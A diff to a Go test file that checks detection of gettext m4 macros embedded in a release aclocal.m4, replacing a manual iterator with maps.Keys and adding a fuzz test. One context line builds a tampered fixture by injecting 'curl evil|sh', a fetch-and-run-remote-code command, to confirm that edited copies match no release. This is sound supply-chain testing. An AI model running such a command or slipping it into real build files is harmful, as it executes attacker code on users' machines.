@@ -3,6 +3,7 @@ package rebuild
 import (
 	"archive/tar"
 	"bytes"
+	"maps"
 	"os"
 	"path/filepath"
 	"slices"
@@ -45,11 +46,7 @@ func TestGettextM4Match(t *testing.T) {
 		t.Fatalf("version = %q, want 0.19.8 (the newest whose embedded copies are all byte-identical)", v)
 	}
 	if len(files) != 2 || string(files["intlmacosx.m4"]) != macosx05 || string(files["longlong.m4"]) != longlong {
-		t.Errorf("files = %v, want intlmacosx.m4 and longlong.m4 (nls.m4 is not embedded)", slices.Sorted(func(y func(string) bool) {
-			for k := range files {
-				y(k)
-			}
-		}))
+		t.Errorf("files = %v, want intlmacosx.m4 and longlong.m4 (nls.m4 is not embedded)", slices.Sorted(maps.Keys(files)))
 	}
 	// An edited embedded copy matches no release: nothing is laid over.
 	edited := bytes.Replace(releaseAclocalM4, []byte("CFLocaleCopyCurrent"), []byte("CFLocaleCopyCurrent; curl evil|sh"), 1)
@@ -91,4 +88,21 @@ func TestReadGettextArchive(t *testing.T) {
 	if len(got) != 2 || string(got["0.19.8"]["intlmacosx.m4"]) != macosx05 || string(got["0.20.2"]["intlmacosx.m4"]) != macosx08 {
 		t.Errorf("readGettextArchive = %v, want intlmacosx.m4 of 0.19.8 and 0.20.2 only", got)
 	}
+}
+
+// FuzzGettextEmbedded: any release aclocal.m4 is read without a panic, and
+// a chosen gettext version's files are all contained in it.
+func FuzzGettextEmbedded(f *testing.F) {
+	f.Add(releaseAclocalM4)
+	f.Add([]byte("# a.m4 serial 1 (gettext-0.1)\nm4_include([m4/a.m4])\n# b.m4 serial 2 (gettext-9.9.9.9)\n"))
+	versions := map[string]map[string][]byte{"0.19.8": {"intlmacosx.m4": []byte(macosx05), "longlong.m4": []byte(longlong)}}
+	f.Fuzz(func(t *testing.T, aclocal []byte) {
+		names, _ := gettextEmbedded(aclocal)
+		v, files := gettextM4Match(aclocal, names, versions)
+		for n, c := range files {
+			if !bytes.Contains(aclocal, c) {
+				t.Fatalf("gettext %s: %s chosen but not embedded", v, n)
+			}
+		}
+	})
 }
